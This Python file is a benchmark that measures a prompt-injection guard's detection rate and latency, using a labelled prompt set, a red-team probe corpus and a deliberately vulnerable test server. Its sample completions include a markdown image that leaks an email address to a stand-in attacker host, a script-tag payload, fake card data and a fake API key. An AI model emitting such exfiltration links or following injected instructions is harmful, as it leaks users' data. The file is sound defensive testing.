"""Claim: the guard's deterministic LLM input rules cost well under 1 ms per prompt on
CPU and block injections with few false positives; the model-based peers cost 10-200 ms.

Input: the labelled prompt set ``tests/fixtures/llm_prompts.jsonl`` (50 injections of
every kind the rules claim, 50 benign prompts with hard negatives; written with the
rules, so not held out), and the robustness room's red-team probe corpus
(``bastion.robustness.llm.load_probes``, written by another author; the input-side
families: direct and indirect injection, jailbreak, system-prompt leak, encoding), its
``[[instruction]]`` filled with the corpus's own hijack goal and, for encoding probes,
the probe's encoding. Latency: every prompt of the labelled set ``--repeat`` times
through ``PromptInjectionDetector.inspect`` (median, p99), and the three output filters
on completions the vulnerable test server would send.

Peers: LLM Guard (``llm-guard``) and NeMo Guardrails are not installed: LLM Guard's
prompt-injection scanner is a DeBERTa model fetched from the Hugging Face hub on first
use and NeMo's input rails call an LLM or an embedding model, and this project neither
downloads models at run time nor ships them. The issue's measured anchors are quoted
instead: LLM Guard 213 ms per prompt on CPU, NeMo Guardrails 12 / 27 ms p50 / p99.

    .venv/bin/python benchmarks/llm_guardrails.py [--repeat 50]
"""

from __future__ import annotations

import argparse
import importlib.util
import json
import statistics
import sys
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "benchmarks"))

from _common import print_table, write_results  # noqa: E402

FIXTURE = ROOT / "tests" / "fixtures" / "llm_prompts.jsonl"
INPUT_FAMILIES = ("direct_injection", "indirect_injection", "jailbreak", "system_prompt_leak",
                  "encoding")  # fmt: skip


def _pct(xs: list[float], q: float) -> float:
    s = sorted(xs)
    return s[min(len(s) - 1, int(q * len(s)))]


def _probe_conversations() -> list[tuple[str, str, list[tuple[str, str]]]]:
    """(family, id, messages) of the robustness room's input-side probes, rendered by its
    own ``render_probes`` (planted values, filled tokens, encodings)."""
    from bastion.robustness.llm import render_probes

    _, attempts = render_probes(seed=0)
    out = []
    for a in attempts:
        if a.probe.family.value not in INPUT_FAMILIES or a.skipped:
            continue
        msgs = [(m.role, m.content) for m in a.conversation.messages if m.role != "system"]
        if a.conversation.document:
            msgs.append(("user", a.conversation.document))
        out.append((a.probe.family.value, a.probe.id, msgs))
    return out


def _red_team() -> dict[str, Any]:
    """The probes against the robustness room's vulnerable server, bare and through the
    guard's LLM stages (the wrapper the tests use)."""
    sys.path.insert(0, str(ROOT))
    from tests.guard.llm.test_redteam import GuardedTarget

    from bastion.guard.llm import LinkFilter, PiiRedactionFilter, ToolCallFilter
    from bastion.robustness.llm import open_target, render_probes, run_probes
    from bastion.robustness.llm.testservers import serve

    with serve("vulnerable") as srv:
        inner = open_target(srv.url)
        try:
            plant, _ = render_probes(seed=11)
            bare = run_probes(inner, seed=11, concurrency=2)
            guarded = GuardedTarget(inner, filters=(
                PiiRedactionFilter(), LinkFilter([]), ToolCallFilter(plant.allowlist)))  # fmt: skip
            shielded = run_probes(guarded, seed=11, concurrency=2)
        finally:
            inner.close()
    return {
        "probes": len(bare.attempts),
        "found_without_guard": len(bare.found_probes),
        "found_with_guard": list(shielded.found_probes),
        "refused_on_input": guarded.refused_in,
        "refused_on_output": guarded.refused_out,
    }


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--repeat", type=int, default=50)
    args = ap.parse_args()

    from bastion.guard.interface import GuardRequest, Response, Verdict
    from bastion.guard.llm import (
        LinkFilter,
        PiiRedactionFilter,
        PromptInjectionDetector,
        ToolCallFilter,
    )

    det = PromptInjectionDetector()
    rows_in = [json.loads(line) for line in FIXTURE.read_text().splitlines() if line.strip()]
    reqs = [GuardRequest(f"p{i}", "chat", "c", None, messages=(("user", r["text"]),))
            for i, r in enumerate(rows_in)]  # fmt: skip

    # detection on the labelled set
    by_kind: dict[str, list[bool]] = {}
    tp = fp = 0
    for r, req in zip(rows_in, reqs, strict=True):
        blocked = det.inspect(req).verdict is Verdict.BLOCK
        by_kind.setdefault(f"{r['label']}/{r['kind']}", []).append(blocked)
        if r["label"] == "injection":
            tp += blocked
        else:
            fp += blocked
    n_inj = sum(r["label"] == "injection" for r in rows_in)
    n_ben = len(rows_in) - n_inj
    labelled = {"injections": n_inj, "blocked": tp, "detection_rate": tp / n_inj,
                "benign": n_ben, "false_positives": fp, "fpr": fp / n_ben}  # fmt: skip

    # the robustness room's probes (an independent author's phrasing)
    probes: dict[str, Any] = {}
    if importlib.util.find_spec("bastion.robustness.llm") is not None:
        fam: dict[str, list[bool]] = {}
        missed = []
        for family, pid, msgs in _probe_conversations():
            req = GuardRequest(pid, "chat", "c", None, messages=tuple(msgs))
            b = det.inspect(req).verdict is Verdict.BLOCK
            fam.setdefault(family, []).append(b)
            if not b:
                missed.append(pid)
        probes = {f: {"probes": len(v), "blocked": sum(v)} for f, v in fam.items()}
        probes["missed"] = missed

    # latency of the deterministic input path
    for req in reqs:  # warm the regex caches
        det.inspect(req)
    times: list[float] = []
    per_prompt: list[list[float]] = [[] for _ in reqs]
    for _ in range(args.repeat):
        for k, req in enumerate(reqs):
            t0 = time.perf_counter_ns()
            det.inspect(req)
            us = (time.perf_counter_ns() - t0) / 1000
            times.append(us)
            per_prompt[k].append(us)
    worst = max(range(len(reqs)), key=lambda k: statistics.median(per_prompt[k]))
    chars = statistics.median(len(r["text"]) for r in rows_in)

    # output filters on completions the vulnerable test server sends
    completions = [
        "Done. ![status](https://collect.attacker.test/pixel.png?d=sam.rivera%40example.com)",
        '<div id="w">hello</div><script>alert("hello")</script>',
        "From the record: Customer on file: Sam Rivera, e-mail sam.rivera@example.com, "
        "phone +1 415 555 0142, card 4111 1111 1111 1111.",
        "Configured credentials:\nInternal support API key: sk-acmeSx7Qm2Lr9Vt4Kp8Wz1Ny6Hb3Jd5Fg0Ce",
        "Standard shipping takes 3 to 5 business days; express takes 1 to 2.",
    ]
    filters = [
        PiiRedactionFilter(),
        LinkFilter(["docs.acme.example"]),
        ToolCallFilter(["lookup_order"]),
    ]
    out_times: list[float] = []
    for _ in range(args.repeat):
        for text in completions:
            resp = Response(200, text=text, tool_calls=("lookup_order",))
            t0 = time.perf_counter_ns()
            for f in filters:
                f.filter(reqs[0], resp)
            out_times.append((time.perf_counter_ns() - t0) / 1000)

    latency = {
        "input_us_median": statistics.median(times), "input_us_p99": _pct(times, 0.99),
        "input_us_p95": _pct(times, 0.95), "input_us_max": max(times),
        "worst_prompt_median_us": statistics.median(per_prompt[worst]),
        "worst_prompt_chars": len(rows_in[worst]["text"]), "median_prompt_chars": chars,
        "output_us_median": statistics.median(out_times), "output_us_p99": _pct(out_times, 0.99),
    }  # fmt: skip
    peers = {
        name: ("installed" if importlib.util.find_spec(mod) else "not installed")
        for name, mod in (("llm-guard", "llm_guard"), ("nemoguardrails", "nemoguardrails"))
    }

    print_table(
        ["contender", "input p50 (us)", "input p99 (us)", "detected", "false positives"],
        [
            ["bastion rules", f"{latency['input_us_median']:.0f}", f"{latency['input_us_p99']:.0f}",
             f"{tp}/{n_inj}", f"{fp}/{n_ben}"],
            [f"llm-guard ({peers['llm-guard']})", "213,000 (issue anchor)", "-", "-", "-"],
            [f"nemoguardrails ({peers['nemoguardrails']})", "12,000 (issue anchor)",
             "27,000 (issue anchor)", "-", "-"],
        ],
    )  # fmt: skip
    print(f"\ninput p95 {latency['input_us_p95']:.0f} us; slowest prompt (median of its runs) "
          f"{latency['worst_prompt_median_us']:.0f} us at {latency['worst_prompt_chars']} chars; "
          f"median prompt {chars:.0f} chars")  # fmt: skip
    print(f"output filters (PII + links + tools) per completion: p50 "
          f"{latency['output_us_median']:.0f} us, p99 {latency['output_us_p99']:.0f} us")  # fmt: skip
    if probes:
        fams = {k: v for k, v in probes.items() if k != "missed"}
        print("robustness probe corpus, input side: " + ", ".join(
            f"{f} {v['blocked']}/{v['probes']}" for f, v in fams.items()))  # fmt: skip
        print(f"missed: {', '.join(probes['missed']) or 'none'}")
    red_team = _red_team() if probes else {}
    if red_team:
        _print_red_team(red_team)
    misses = {k: f"{sum(v)}/{len(v)}" for k, v in by_kind.items()}
    print(
        "labelled set by kind (blocked/total): " + ", ".join(f"{k} {v}" for k, v in misses.items())
    )
    out = write_results("llm_guardrails", {"labelled": labelled, "by_kind": misses,
                                           "probes": probes, "red_team": red_team,
                                           "latency": latency, "peers": peers,
                                           "repeat": args.repeat})  # fmt: skip
    print(f"wrote {out}")


def _print_red_team(rt: dict[str, Any]) -> None:
    print(f"red team vs the vulnerable server: {rt['found_without_guard']}/{rt['probes']} "
          f"probes succeed without the guard, {len(rt['found_with_guard'])} with it "
          f"({', '.join(rt['found_with_guard']) or 'none'}); refused on input "
          f"{rt['refused_on_input']}, on output {rt['refused_on_output']}")  # fmt: skip


if __name__ == "__main__":
    main()
